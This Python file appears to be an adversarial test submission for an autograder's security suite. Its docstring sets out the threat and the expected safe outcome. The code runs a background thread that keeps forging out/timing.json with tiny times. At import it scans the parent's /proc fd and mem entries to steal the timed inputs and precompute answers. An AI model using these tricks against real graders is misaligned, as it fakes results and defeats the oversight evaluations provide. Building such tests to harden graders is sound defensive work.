"""Threat: forging the timing record and stealing the timed run's inputs: a background
thread keeps writing `out/timing.json` with a tiny time for every probe, and at import the
submission looks for the timed inputs (in `out/`, and through `/proc/<parent>/fd` and
`/proc/<parent>/mem` of the process that holds them) to precompute the answer before the
clock starts. The grid itself is a Python double loop.

Hope: the trusted side reads whatever timing record is there; or the timed inputs can be
found and the answer stored before the timed run is handed them.
Safe outcome: the supervisor unlinks the timed inputs before any student code runs and is
not dumpable (its fds and memory are closed to the submission); it writes the timing
record itself after every process of the submission is gone, replacing whatever was
there: the time budget fails on the loop's real CPU time; every value check scores.
"""

import glob
import json
import os
import stat
import threading
import time

import torch
from safetensors.torch import load
from torch import Tensor

EARNED = [
    "loss_grid: the MSE at one (w, b)",
    "loss_grid: values and orientation on a full grid",
    "gd_path: steps = 0 gives just the start point",
    "gd_path: the trajectory (steps + 1 rows)",
]
EXPECT = "over the budget"
TIME_LIMIT_S = 60

_OUT = os.path.join(os.path.dirname(os.getcwd()), "out")


def _forge() -> None:
    while True:
        try:
            with open(os.path.join(_OUT, "timing.json"), "w") as f:
                json.dump({"grid__grid_timed": 0.001, "grid": 0.001}, f)
        except OSError:
            pass
        time.sleep(0.01)


threading.Thread(target=_forge, daemon=True).start()


def _slow(X: Tensor, y: Tensor, w_values: Tensor, b_values: Tensor) -> Tensor:
    out = torch.empty(len(w_values), len(b_values), dtype=X.dtype)
    for i in range(len(w_values)):
        for j in range(len(b_values)):
            out[i, j] = ((w_values[i] * X + b_values[j] - y) ** 2).mean()
    return out


def _key(*tensors: Tensor) -> tuple:  # type: ignore[type-arg]
    return tuple((tuple(t.shape), str(t.dtype), float(t.double().sum())) for t in tensors)


_STORE: dict = {}  # type: ignore[type-arg]


def _steal() -> None:
    parent = os.getppid()
    places = glob.glob(os.path.join(_OUT, "*.safetensors"))
    places += glob.glob(f"/proc/{parent}/fd/*")
    for place in places:
        try:
            if not stat.S_ISREG(os.stat(place).st_mode):
                continue
            with open(place, "rb") as f:
                blob = f.read()
            found = {k.rsplit("/", 1)[-1]: v for k, v in load(blob).items()}
            args = [found[k] for k in ("X", "y", "w_values", "b_values")]
            _STORE[_key(*args)] = _slow(*args)
        except Exception:  # noqa: BLE001, S112
            continue
    try:  # the parent's memory, if it could be read, would hold them once handed over
        with open(f"/proc/{parent}/mem", "rb") as f:
            f.read(1)
    except OSError:
        pass


_steal()


def loss_grid(X: Tensor, y: Tensor, w_values: Tensor, b_values: Tensor) -> Tensor:
    stored = _STORE.get(_key(X, y, w_values, b_values))
    return stored.clone() if stored is not None else _slow(X, y, w_values, b_values)


def gd_path(X: Tensor, y: Tensor, w0: float, b0: float, lr: float, steps: int) -> Tensor:
    w, b = torch.tensor(w0, dtype=X.dtype), torch.tensor(b0, dtype=X.dtype)
    path = [torch.stack([w, b])]
    for _ in range(steps):
        r = w * X + b - y
        w, b = w - lr * 2.0 * (r * X).mean(), b - lr * 2.0 * r.mean()
        path.append(torch.stack([w, b]))
    return torch.stack(path)
